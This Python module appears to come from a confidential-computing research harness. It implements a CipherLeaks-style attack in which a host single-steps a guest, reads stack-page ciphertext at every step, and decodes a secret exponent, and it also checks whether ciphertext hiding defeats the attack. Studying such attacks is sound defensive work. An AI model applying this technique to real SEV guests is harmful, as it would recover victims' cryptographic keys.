"""Memory ciphertext (CipherLeaks on the stack): a return address pushed by a call.

SEV's memory encryption is deterministic per address: the same 16 bytes written to the
same place give the same ciphertext, and the host may read any page's ciphertext
(``READ_PAGE``).  The victim's routines are called from two call sites — at every
iteration the square, and for a 1 bit the multiply — so the stack slot that holds the
return address takes one of two ciphertexts, and changes exactly when the multiply is
called after a square (and back).  The host needs no register state and no fault on the
loop: it single-steps from the first call of a routine (one fault marks the start) and
reads the top page of the stack (the public runtime puts the stack at the top of guest
memory) at every step.  The times at which a stack block turns to the same value are the
multiply's calls; the gap between two of them is ``L1 + k * L0`` instructions for k
0 bits in between (``L0``, ``L1``: a 0 and a 1 iteration, measured on the attacker's own
copy at ``plain`` with no secret, whose exponent is 1 followed by 63 zeros).  The bits
after the last multiply are 0; the printed result verifies the whole exponent.

Targets come from the public ELF: the program's routines are the functions on code pages
of their own above ``main`` (guests/samples: .text.page_*); the one called at every
iteration of the own copy is the loop's, the other the conditional one.  At ``shim``
ciphertext hiding (AMD SEV-SNP on EPYC Zen 5, "Turin") gives the host all-ones for a
private page: the first read shows no ciphertext and the attack stops there.
"""

from __future__ import annotations

import statistics
from collections import Counter
from dataclasses import dataclass

from tvmm.abi.messages import ExitRecord
from tvmm_tools.attacks._decode import (
    EXPONENT_BITS,
    bits_to_guess,
    complete_bits,
    printed_result,
)
from tvmm_tools.attacks._stepper import MAX_STEPS, RoutineStepper, step_own_copy
from tvmm_tools.attacks._targets import STACK_BLOCK, program_routines, stack_page
from tvmm_tools.attacks.base import Attack, AttackContext, Outcome, not_applicable


@dataclass(frozen=True, slots=True)
class Calibration:
    loop: int  # entry of the routine called at every iteration
    conditional: int  # entry of the one called for a 1 bit
    one: int  # instructions of an iteration with a 1 bit
    zero: int  # instructions of an iteration with a 0 bit


class _StepHost(RoutineStepper):
    """Steps the routine and, if asked, keeps the stack page at every step."""

    def __init__(self, *args, stack: int | None, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.stack = stack
        self.snapshots: list[bytes] = []
        self.hidden = False  # the stack page reads as all ones: ciphertext hidden

    def on_step(self, rec: ExitRecord) -> bool:
        if self.stack is None:
            return True
        page = self.client.read_page(self.vm, self.stack)
        self.hidden = page == b"\xff" * len(page)
        self.snapshots.append(page)
        return not self.hidden


def calibrate(ctx: AttackContext) -> Calibration | str:
    """Iteration lengths from the own copy at plain (RIP shown): exponent 1 then 63 zeros;
    or why the victim does not fit (the scenario's n/a)."""
    routines = program_routines(ctx.image)
    if len(routines) < 2:
        return (f"{len(routines)} routine{'' if len(routines) == 1 else 's'} above main on "
                "code pages of their own: no two call sites to tell the bits apart")
    host = ctx.host(_StepHost, pages=sorted({r & ~0xFFF for r in routines}), stack=None)
    step_own_copy(ctx, host)
    calls = {r: [t for t, rip in enumerate(host.rips) if rip == r] for r in routines}
    loop = max(calls, key=lambda r: len(calls[r]))
    others = [r for r in routines if r != loop and calls[r]]
    starts = calls[loop]
    if not others or len(starts) < 3:
        return ("the own copy (no secret) calls no second routine between three calls of "
                "one loop routine: no call site whose stack slot tells a bit")
    zero = statistics.median(b - a for a, b in zip(starts[1:], starts[2:], strict=False))
    return Calibration(loop, others[0], starts[1] - starts[0], int(zero))


def _events(snapshots: list[bytes]) -> list[list[int]]:
    """For each (block, value) a stack block turned to: the steps at which it did."""
    out: dict[tuple[int, bytes], list[int]] = {}
    for b in range(0, len(snapshots[0]) if snapshots else 0, STACK_BLOCK):
        last = snapshots[0][b:b + STACK_BLOCK]
        for t, page in enumerate(snapshots[1:], 1):
            now = page[b:b + STACK_BLOCK]
            if now != last:
                out.setdefault((b, now), []).append(t)
                last = now
    return list(out.values())


def decode(times: list[int], cal: Calibration) -> list[int | None] | None:
    """Bits, most significant first, from the multiply's call times (the first is the
    top bit's): a gap of one + k * zero is k 0 bits then a 1."""
    if not times:
        return None
    bits: list[int | None] = [1]
    for a, b in zip(times, times[1:], strict=False):
        k, rest = divmod(b - a - cal.one, cal.zero)
        if k < 0 or rest:
            return None
        bits += [0] * k + [1]
    if len(bits) > EXPONENT_BITS:
        return None
    return bits + [0] * (EXPONENT_BITS - len(bits))


class CipherStack(Attack):
    name = "cipher-stack"
    summary = ("read the stack page's ciphertext at every step: the block holding the "
               "return address turns to one value at each multiply (CipherLeaks on memory)")
    victims = ("modexp", "modexp-ct")
    kind = "confidentiality"
    published = ("CipherLeaks (Li et al., USENIX Security 2021): deterministic SEV memory "
                 "encryption, ciphertext read by the host, recovers RSA/ECDSA keys from "
                 "OpenSSL; Cipherfix (Wichelmann et al., USENIX Security 2023) finds and "
                 "masks such secret-dependent stores in software.")

    def run(self, ctx: AttackContext) -> Outcome:
        cal = calibrate(ctx)
        if isinstance(cal, str):
            return not_applicable(cal)
        host = ctx.host(_StepHost, pages=[cal.loop & ~0xFFF], stack=stack_page(ctx.memory))
        ctx.launch(host)
        ctx.client.unmap(host.vm, cal.loop & ~0xFFF)
        ctx.record("unmap", gpa=cal.loop & ~0xFFF)
        result = host.run(max_exits=MAX_STEPS + 5_000)
        exits = sum(result.exits.values())
        notes: dict[str, object] = {"steps": len(host.snapshots), "calibration":
                                    [cal.one, cal.zero], "hidden": host.hidden}
        if host.hidden:
            notes["detail"] = "the stack page reads as all ones: ciphertext hidden, nothing read"
            return Outcome(hosts=[host], exits=exits, notes=notes)
        decoded = [(bits, ts) for ts in _events(host.snapshots)
                   if (bits := decode(ts, cal)) is not None and len(ts) > 1]
        if not decoded:
            notes["detail"] = (f"{len(host.snapshots)} steps: no stack block changes at the "
                               "spacing of the calibrated iterations")
            return Outcome(hosts=[host], exits=exits, notes=notes)
        # The block that turns to one value most often at a consistent spacing.
        bits, times = max(decoded, key=lambda d: len(d[1]))
        printed = printed_result(host.devices.console.text)
        bits, verified = complete_bits(bits, printed)
        notes.update(verified=verified, multiplies=len(times),
                     candidates=dict(Counter(len(t) for _b, t in decoded)),
                     detail=f"{len(host.snapshots)} steps, stack page read at each; one block "
                            f"turned to the same ciphertext {len(times)} times; "
                            f"{'verified against the printed result' if verified else 'unverified'}")
        return Outcome(guess=bits_to_guess(bits), hosts=[host], exits=exits, notes=notes)
